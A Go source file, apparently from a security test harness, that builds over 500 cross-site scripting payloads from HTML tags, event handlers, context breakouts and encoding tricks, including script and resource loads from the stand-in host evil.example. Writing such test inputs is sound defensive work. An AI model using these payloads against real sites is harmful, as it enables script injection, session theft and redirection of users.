package report

import (
	"fmt"
	"strings"
)

// payloads are at least 500 ways to have a page run, load or show something: each act in
// each place, through ways out of an attribute, a comment, a text element or an encoding.
func payloads() []string {
	const act = `document.title='PWNED'`
	out := append([]string{}, attacks...)
	for _, element := range []string{"img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "input autofocus", "select autofocus", "textarea autofocus", "details open", "object data=x", "marquee", "style", "link rel=stylesheet href=x", "script src=x", "embed src=x", "form", "math", "a href=x", "div"} {
		for _, event := range []string{"onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart", "onanimationstart", "onpageshow"} {
			out = append(out, "<"+element+" "+event+"="+act+">")
		}
	}
	for _, way := range []string{"%s", `">%s`, `'>%s`, "`>%s", "-->%s<!--", "]]>%s", "</title>%s", "</style>%s", "</textarea>%s", "</script>%s", "</table>%s", "</td></tr>%s", "</svg>%s", "<!--%s", "<![CDATA[%s]]>", "<template>%s</template>", "<noscript>%s</noscript>", "<x y='%s'>", "\x00%s", "\u202e%s", "\u2028%s", "%s\r\n\r\n", "\ufeff%s", "<%%00%s"} {
		for _, end := range []string{
			"<script>" + act + "</script>", "<script src=https://evil.example/x.js></script>", "<img src=https://evil.example/x.png>", "<iframe src=javascript:" + act + ">", "<iframe srcdoc=\"<script>parent." + act + "</script>\">",
			"<meta http-equiv=refresh content='0;url=https://evil.example'>", "<a href=javascript:" + act + ">x</a>", "<base href=https://evil.example/>", "<form action=https://evil.example><input type=submit></form>", "<style>@import 'https://evil.example/x.css'</style>", "<svg><use href='https://evil.example/x.svg#x'/></svg>",
		} {
			out = append(out, fmt.Sprintf(way, end))
		}
	}
	for _, s := range []string{"<script>" + act + "</script>", "<img src=x onerror=" + act + ">"} {
		var entities, numbers, percent, wide strings.Builder
		for _, r := range s {
			fmt.Fprintf(&entities, "&#x%x;", r)
			fmt.Fprintf(&numbers, "&#%07d", r)
			fmt.Fprintf(&percent, "%%%02X", r)
			if r > ' ' && r < 0x7f {
				r += 0xfee0
			}
			wide.WriteRune(r)
		}
		out = append(out, entities.String(), numbers.String(), percent.String(), wide.String(), strings.ToUpper(s), strings.ReplaceAll(s, "s", "ſ"), strings.ReplaceAll(s, "<", "\xbc"), strings.ReplaceAll(s, "<", "+ADw-"),
			strings.ReplaceAll(s, "<", "<\x00"), strings.ReplaceAll(s, " ", "\x0c"), strings.ReplaceAll(s, "i", "i\u0301"), "javascript:"+s, "data:text/html,"+s, "{{"+s+"}}", "{%"+s+"%}", "${"+s+"}", "<%="+s+"%>")
	}
	return out
}
